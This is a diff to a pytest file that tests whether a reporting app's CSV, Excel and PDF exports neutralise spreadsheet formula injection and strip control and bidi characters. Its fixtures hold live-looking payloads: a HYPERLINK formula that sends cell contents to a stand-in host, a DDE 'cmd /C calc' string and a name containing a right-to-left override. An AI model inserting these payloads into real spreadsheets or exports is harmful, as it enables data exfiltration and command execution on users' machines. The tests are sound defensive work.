@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pytest
@@ -10,12 +11,14 @@ from openpyxl import load_workbook
 from data.setup import ensure_ready
 from data.warehouse import Warehouse
 from metrics import service
-from reports.csvexport import csv_bytes, rankings_csv
+from reports.csvexport import csv_bytes, explanations_csv, rankings_csv
 from reports.excel import workbook
 
 MONTH = "2026-10"
 EVIL_REASON = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
 EVIL_EVIDENCE = "@SUM(1+1)*cmd|' /C calc'!A0"
+EVIL_NAME = "\x01=1+1 区\u202e水务\x07局"
+CLEAN_NAME = "'=1+1 区水务局"  # the control characters dropped first, then the formula neutralised
 
 
 @pytest.fixture(scope="module")
@@ -25,6 +28,7 @@ def wh(tmp_path_factory) -> Warehouse:
     # Text that arrives from uploads and forms: a unit renamed to a formula, and an adjustment reason.
     units = wh.units()
     units.loc[units["code"] == "D18", "name_zh"] = "-2+3 区测试局"
+    units.loc[units["code"] == "D16", "name_zh"] = EVIL_NAME  # control and bidi characters a sheet refuses
     wh.upsert_units(units, actor="tester")
     service.add_adjustment(wh, "S02", MONTH, "deduction", 3, EVIL_REASON, EVIL_EVIDENCE, "tester")
     return wh
@@ -103,6 +107,8 @@ def test_no_cell_in_the_workbook_is_a_formula(book):
                     texts.append(cell.value)
     assert "'" + EVIL_REASON in texts and "'" + EVIL_EVIDENCE in texts
     assert "'-2+3 区测试局" in texts
+    assert CLEAN_NAME in texts
+    assert not [x for x in texts if any(c in x for c in "\x01\x07\u202e")]
 
 
 def test_english_workbook(wh, build):
@@ -124,3 +130,52 @@ def test_csv_keeps_numbers_numeric():
 
     out = csv_bytes(pd.DataFrame({"a": [-1.5, 2.0], "b": ["-1", "ok"]})).decode("utf-8-sig")
     assert out.splitlines() == ["a,b", "-1.5,'-1", "2.0,ok"]
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_every_csv_export_is_neutralised(wh, build):
+    for data in (rankings_csv(wh, MONTH, build=build), explanations_csv(wh, MONTH, build=build)):
+        assert data.startswith(b"\xef\xbb\xbf")
+        text = data.decode("utf-8-sig")
+        assert not any(c in text for c in "\x01\x07\u202e")
+        for row in csv.reader(io.StringIO(text)):
+            for field in row:
+                if not _number(field):  # a negative number stays a number; text never starts a formula
+                    assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
+    assert CLEAN_NAME in rankings_csv(wh, MONTH, build=build).decode("utf-8-sig")
+
+
+def test_uploaded_text_is_plain_text_in_the_pdfs(wh, build):
+    """In a PDF a formula is harmless, but control and bidi characters would reorder or break a line."""
+    from tests.test_reports_pdf import fonts_of, text_of
+
+    from reports.scorecard import scorecard_pdf
+    from reports.summary import summary_pdf
+
+    for pdf in (scorecard_pdf(wh, "D16", MONTH, build=build), scorecard_pdf(wh, "S02", MONTH, build=build),
+                summary_pdf(wh, MONTH, build=build)):
+        text = text_of(pdf)
+        assert not any(c in text for c in "\x01\x07\u202e")
+        assert all(embedded for _, embedded in fonts_of(pdf))
+    assert "=1+1 区水务局" in text_of(scorecard_pdf(wh, "D16", MONTH, build=build))
+    assert EVIL_REASON in text_of(scorecard_pdf(wh, "S02", MONTH, build=build)).replace("\n", "")
+
+
+def test_weights_read_as_percent_and_adjustment_reasons_in_the_language(wh, build):
+    book = load_workbook(io.BytesIO(workbook(wh, MONTH, lang="en", build=build)))
+    ws = book["Explanations"]
+    h = header_index(ws)
+    weight = ws.cell(row=2, column=h["Weight"])
+    assert weight.number_format == "0.00%" and 0 < weight.value < 1
+    assert ws.cell(row=2, column=h["Dimension"]).value == "Citizen requests"
+    adj = book["Adjustments"]
+    reasons = [row[header_index(adj)["Reason"] - 1] for row in adj.iter_rows(min_row=2, values_only=True)]
+    assert "'" + EVIL_REASON in reasons  # typed by hand: shown as typed
+    assert "third-party resident survey score of 95 or more" in reasons  # the scheme's own item, in English
